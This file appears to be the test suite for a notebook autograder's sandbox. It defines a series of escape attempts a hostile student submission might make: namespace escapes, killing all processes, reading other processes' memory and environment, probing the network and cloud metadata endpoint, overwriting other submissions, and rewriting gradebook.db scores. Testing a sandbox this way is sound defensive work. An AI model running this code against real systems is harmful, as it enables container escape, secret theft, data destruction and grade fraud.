"""What is not its own: files, processes, network, other submissions."""

from attack import attack

attack(
    "join_other_namespaces",
    "Leaves its namespaces by setns, unshare, mount, chroot and the kernel's /proc/1/root.",
    cell="""
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for path in [*glob.glob("/proc/*/ns/*"), *glob.glob("/proc/self/fd/*")]:
    try:
        descriptor = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(descriptor, 0) == 0:
        print("ATTACK", "WORKED", path)
for flags in (0x10000000, 0x10020000, 0x20000000):
    if libc.unshare(flags) == 0:
        print("ATTACK", "WORKED: unshare")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.chroot(b"/tmp") == 0:
    print("ATTACK", "WORKED: mount")
for name in ("setuid", "setgid"):
    if getattr(libc, name)(0) == 0:
        print("ATTACK", "WORKED:", name)
""",
    stock=False,  # it runs as root in the stock cage as well, so that its result says nothing
    quick=True,
)


attack(
    "kill_parent_and_everybody",
    "SIGKILL to the parent, to process 1 and to all processes.",
    cell="""
import os, signal
for number in (os.getppid(), 1, 2):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError as error:
        print(error)
""",
    later="""
import os, signal
os.kill(-1, signal.SIGKILL)
""",
    stock=False,  # it would kill the grader, and all else that it may
)


attack(
    "late_threads_and_children",
    "Threads and child processes outlive the cell and change things later.",
    cell="""
import os, threading, time
def later():
    import gc, numpy as np
    while True:
        time.sleep(0.05)
        globals().update(hidden_rule=lambda x: True, same=lambda *a: True, tolerance=1e9)
        try:
            np.testing.assert_allclose = lambda *a, **k: None
        except Exception:
            pass
threading.Thread(target=later, daemon=True).start()
if os.fork() == 0:
    while True:
        time.sleep(0.1)
        try:
            open("/tmp/attack_late", "a").write("x")
        except OSError:
            pass
""",
    quick=True,
)


attack(
    "open_network_connections",
    "Reaches for the internet, for local services and for abstract sockets.",
    cell="""
import socket
for place in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    try:
        socket.create_connection(place, timeout=0.5)
        print("ATTACK", "WORKED", place)
    except OSError as error:
        print(error)
for line in open("/proc/net/unix"):
    name = line.split()[-1]
    if name.startswith("@"):
        print("ATTACK", "WORKED: sees", name)
""",
    quick=True,
)


attack(
    "read_files_that_are_not_its_own",
    "Looks through the file system for tests, the gradebook, other work and the home folder.",
    cell="""
import os, re
found = set()
places = [os.path.abspath("../../.."), "/home", "/root", "/etc", "/run", "/tmp", "/srv", "/work",
          os.environ.get("HOME", "/"), "/var/tmp"]
places += [os.path.dirname(p) for p in __import__("sys").path if "site-packages" not in p]
deadline = __import__("time").monotonic() + 3
for place in dict.fromkeys(places):
    for folder, folders, names in os.walk(place):
        folders[:] = [f for f in folders if f not in ("site-packages", "proc", "sys", "usr")]
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 10**7:
                try:
                    text = open(path, "rb").read().decode("latin1")
                except OSError:
                    continue
                found.update(re.findall("SECRET-[A-Z]+-[0-9a-f]{12}", text))
        if __import__("time").monotonic() > deadline:
            break
print(found)
""",
    quick=True,
)


attack(
    "read_inherited_file_descriptors",
    "Reads every file descriptor that the process was born with, and sends on every socket.",
    cell="""
import os, re, socket, fcntl
found = set()
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, target)
    if "socket" in target or "pipe" in target or "eventfd" in target or "anon" in target:
        continue
    try:
        print(os.listdir(number))
    except OSError:
        pass
    try:
        copy = os.open(f"/proc/self/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
        found.update(re.findall(rb"SECRET-[A-Z]+-[0-9a-f]{12}", os.read(copy, 10**7)))
    except OSError:
        pass
print(found)
""",
    quick=True,
)


attack(
    "read_parent_memory",
    "ptrace and process_vm_readv on every process there is.",
    cell="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in (1, 2, os.getppid(), *range(3, 40)):
    if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0:
        libc.ptrace(17, number, 0, 0)
        print("ATTACK", "WORKED")
""",
    stock=False,  # attaching to its own parent would stop it for good
)


_READ_PROC = """
import glob, os, re
found = set()
for folder in glob.glob("/proc/[0-9]*"):
    for name in ("cwd", "root", "exe"):
        try:
            print(folder, name, os.readlink(f"{folder}/{name}"))
            print(os.listdir(f"{folder}/{name}/home"))
        except OSError as error:
            print(error)
    try:
        maps = open(f"{folder}/maps").read().splitlines()
        memory = open(f"{folder}/mem", "rb")
    except OSError:
        continue
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        try:
            memory.seek(start)
            text = memory.read(min(end - start, 2**24)).decode("latin1")
        except (OSError, ValueError, OverflowError):
            continue
        found.update(re.findall("SECRET-[A-Z]+-[0-9a-f]{12}", text))
print(found)
"""

attack(
    "read_proc",
    "Command lines, working folders, roots, mounts and memory of all processes.",
    cell=_READ_PROC,
    later=_READ_PROC,
    quick=True,
)


attack(
    "read_test_through_frames",
    "Looks for the tests in the frames above a tested function, in gc and in the history.",
    cell="""
import gc, re, sys
found = set()
def look(value):
    found.update(re.findall("SECRET-[A-Z]+-[0-9a-f]{12}", str(value)))
def spy():
    frame = sys._getframe()
    while frame:
        look(frame.f_locals); look(frame.f_globals.get("In")); look(frame.f_code.co_consts)
        frame = frame.f_back
    for value in gc.get_objects():
        if type(value) in (dict, list, tuple):
            try:
                look(value)
            except Exception:
                pass
""",
    answers={"square": "def square(x):\n    spy()\n    return x"},
    later="""
spy()
look(In); look(_ih); look(list(get_ipython().history_manager.get_range()))
import linecache
look(linecache.cache)
print(found)
""",
    quick=True,
)


attack(
    "read_the_environment",
    "Secrets in the environment, its own and that of other processes.",
    cell="""
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        print(open(path, "rb").read())
    except OSError as error:
        print(error)
""",
    quick=True,
)


attack(
    "rename_process",
    "The process calls itself by a name that would mislead a reader of /proc, and blocks signals.",
    cell="""
import ctypes, signal
libc = ctypes.CDLL(None)
libc.prctl(15, b") R 1 1 1 1", 0, 0, 0)
libc.prctl(4, 0, 0, 0, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
""",
    # A process that nobody may look into is ended where the grader has no rights over it.
    marks={"test_double": (2.0, 0.0)},
)


attack(
    "restart_and_poison_next_submission",
    "A server waits for the next submission, on sockets, in /tmp and in shared memory.",
    cell="""
import os, socket, threading, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for place in ("/tmp/attack_socket", "\\0attack_socket", "/dev/shm/attack_socket"):
        s = socket.socket(socket.AF_UNIX)
        s.bind(place)
        s.listen()
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline:
        time.sleep(1)
    os._exit(0)
os.wait()
""",
    quick=True,
)


attack(
    "write_other_submissions",
    "Spoils the submissions of others, and the source.",
    cell="""
import glob
paths = glob.glob("../../../submitted/*/ps1/*.ipynb") + glob.glob("../../../source/ps1/*")
paths += glob.glob("../../*/ps1/*.ipynb")
for path in paths:
    print(open(path).read()[-3000:])
    open(path, "w").write("{}")
""",
    quick=True,
)


attack(
    "write_outside",
    "Writes into the course, the packages, the home folder and the shared folders.",
    cell="""
import os, sys, nbjudge, numpy
places = ["/tmp", "/dev/shm", "/", "/var/tmp", os.path.expanduser("~"), os.getcwd(), "..",
          "../..", "../../..", os.path.dirname(nbjudge.__file__), os.path.dirname(numpy.__file__),
          os.path.dirname(os.path.dirname(numpy.__file__)), sys.prefix]
for place in places:
    try:
        open(os.path.join(place, "attack_was_here.pth"), "w").write("import os")
    except OSError as error:
        print(error)
for place in ("nbjudge/check.py", "nbjudge/grading/judge/judge.py"):
    try:
        open(os.path.join(os.path.dirname(os.path.dirname(nbjudge.__file__)), place), "a").write("")
        print("ATTACK", "WORKED")
    except OSError as error:
        print(error)
""",
    stock=False,  # only the read-only cage would keep it from spoiling the installation
    quick=True,
)


attack(
    "write_the_gradebook",
    "Gives itself and a friend full marks in gradebook.db, wherever it is.",
    cell="""
import glob, os, sqlite3
paths = glob.glob("../../../gradebook.db") + glob.glob("/**/gradebook.db")
for path in paths:
    with sqlite3.connect(path) as database:
        print(database.execute("select source from source_cell").fetchall())
        database.execute("update grade set manual_score = 9, auto_score = 9")
        database.execute("insert into student (id) values ('friend')")
""",
    quick=True,
)
